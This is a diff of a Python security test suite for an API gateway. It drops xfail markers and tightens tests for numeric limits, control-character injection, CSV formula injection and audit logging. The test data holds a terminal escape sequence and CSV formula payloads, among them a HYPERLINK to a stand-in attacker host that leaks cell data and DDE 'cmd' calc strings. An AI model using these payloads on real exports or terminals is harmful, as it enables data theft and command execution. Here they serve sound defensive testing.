@@ -383,9 +383,6 @@ def test_proxy_listener_serves_no_admin_path(adm: Stack, op: str) -> None:
 
 # ============================================================================ input
 
-ROUNDED = ("limits above 2**53 nano-USD (9.007 M USD; MAX_LIMIT_NANO is 10**18) are read "
-           "through Lua doubles: 9007199254740993 is stored and enforced as "
-           "9007199254740992 (up to 64 nano-USD off near 10**18)")
 CORRUPT = ("the transcoder forwards what the processor cannot parse (an object where an int64 "
            "is due gives 'Wire format was corrupt'; %00%ff in a string field gives 'bad "
            "UTF-8'): the deserialiser fails, UNKNOWN, HTTP 500 instead of 400")
@@ -394,12 +391,11 @@ CORRUPT = ("the transcoder forwards what the processor cannot parse (an object w
 @pytest.mark.parametrize(("raw", "exact"), [
     (b'{"limits_nano_usd": {"day": 5e9}}', 5_000_000_000),
     (b'{"limits_nano_usd": {"day": 5000000000.0}}', 5_000_000_000),
-    pytest.param(b'{"limits_nano_usd": {"day": 9007199254740993}}', 9_007_199_254_740_993,
-                 marks=pytest.mark.xfail(strict=True, reason=ROUNDED)),
-    pytest.param(b'{"limits_nano_usd": {"day": "9007199254740993"}}', 9_007_199_254_740_993,
-                 marks=pytest.mark.xfail(strict=True, reason=ROUNDED)),
-    pytest.param(b'{"limits_nano_usd": {"day": "999999999999999999"}}', 999_999_999_999_999_999,
-                 marks=pytest.mark.xfail(strict=True, reason=ROUNDED)),
+    # Above 2**53 - 1 (what Lua's doubles hold exactly): refused, never rounded (fixed).
+    (b'{"limits_nano_usd": {"day": 9007199254740991}}', 9_007_199_254_740_991),
+    (b'{"limits_nano_usd": {"day": 9007199254740993}}', None),
+    (b'{"limits_nano_usd": {"day": "9007199254740993"}}', None),
+    (b'{"limits_nano_usd": {"day": "999999999999999999"}}', None),
     (b'{"limits_nano_usd": {"day": 1e30}}', None),
     (b'{"limits_nano_usd": {"day": -1}}', None),
     (b'{"limits_nano_usd": {"day": "-0"}}', 0),
@@ -470,9 +466,6 @@ def test_gateway_key_name_html_is_served_inert(adm: Stack, op: str, viewer: str)
         assert "default-src 'none'" in csp and "unsafe-inline" not in csp
 
 
-@pytest.mark.xfail(strict=True, reason="gateway-key names accept control characters "
-                   "(ESC, CR, NUL): `tokenfuse vkey list` prints them raw (terminal escape "
-                   "injection) and the dashboard shows them; names should be printable")
 def test_gateway_key_names_with_control_characters_are_refused(adm: Stack, op: str) -> None:
     name = "ok\x1b]0;owned\x07\x1b[2J\r"
     answer = call(adm, "POST", "/api/v1/gateway-keys", op, {"name": name, "pool": POOL})
@@ -483,9 +476,6 @@ def test_gateway_key_names_with_control_characters_are_refused(adm: Stack, op: s
     assert answer.status_code == 400, answer.text
 
 
-@pytest.mark.xfail(strict=True, reason="CSV formula injection: pool labels (from an "
-                   "imported CSV) are exported as-is, so '=HYPERLINK(…)' / '@SUM' / '+cmd' "
-                   "run in a spreadsheet; cells starting with = + - @ TAB CR must be escaped")
 def test_pool_export_csv_neutralises_formulas(adm: Stack, op: str, viewer: str) -> None:
     labels = ['=HYPERLINK("http://evil.example/?"&A1)', "@SUM(1+1)*cmd|' /C calc'!A0",
               "+cmd|' /C calc'!A0", "-2+3"]
@@ -503,9 +493,6 @@ def test_pool_export_csv_neutralises_formulas(adm: Stack, op: str, viewer: str) 
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
 
 
-@pytest.mark.xfail(strict=True, reason="a pool CSV whose label column holds the key (or "
-                   "another key of the file) is imported; the export, readable by any "
-                   "viewer, then prints the secret")
 def test_pool_key_secret_in_the_label_column_never_reaches_the_export(
         adm: Stack, op: str, viewer: str) -> None:
     key = f"sk-proj-labelleak-{uuid.uuid4().hex}"  # not in SECRETS: this leak is known
@@ -534,10 +521,6 @@ def test_pool_csv_errors_never_echo_the_secret(adm: Stack, op: str, csv_text: st
         assert answer.status_code == 400 and why in answer.json()["message"], answer.text
 
 
-@pytest.mark.xfail(strict=True, reason="pool keys with a NUL or another control character "
-                   "are imported (registered, written to the pool file): a key that can never "
-                   "be a header value, so every call routed to it fails upstream; a key should "
-                   "be printable ASCII")
 @pytest.mark.parametrize("bad", ["\x00", "\x1b[2J", "\x7f"])
 def test_pool_key_with_control_characters_is_a_clear_400(adm: Stack, op: str,
                                                          bad: str) -> None:
@@ -758,8 +741,6 @@ def test_audit_records_the_actor_of_the_token_used(adm: Stack, op: str) -> None:
     assert state_of(adm, key)[0] is False
 
 
-@pytest.mark.xfail(strict=True, reason="admin token creation and revocation (who may act) "
-                   "are not in the audit trail, unlike every other operator action")
 def test_admin_token_lifecycle_is_audited(adm: Stack, op: str) -> None:
     make_token(adm, "atk-audited", "operator")
     assert adm.cli("admin", "token", "revoke", "atk-audited").returncode == 0
